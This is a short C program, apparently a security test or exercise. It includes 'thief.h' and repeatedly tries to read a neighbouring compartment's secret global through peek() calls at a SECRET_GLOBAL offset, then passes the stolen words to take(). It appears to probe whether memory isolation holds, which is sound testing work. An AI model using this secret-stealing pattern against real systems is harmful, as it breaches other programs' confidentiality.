/* SPDX-License-Identifier: GPL-3.0-or-later */
/* The neighbour's global entry is there for everybody who looks in time. */
#include "thief.h"

uint8_t found[16];

int main(void)
{
    uint32_t words[8];
    for (int tries = 0; tries < 200; tries++) {
        uint32_t i = 0;
        doze(700);
        while (i < 8 && peek(SECRET_GLOBAL + SECRET_MARK + 4 * i, 9, &words[i])) {
            i++;
        }
        if (i == 8 && take(words)) {
            break;
        }
    }
    return 0;
}
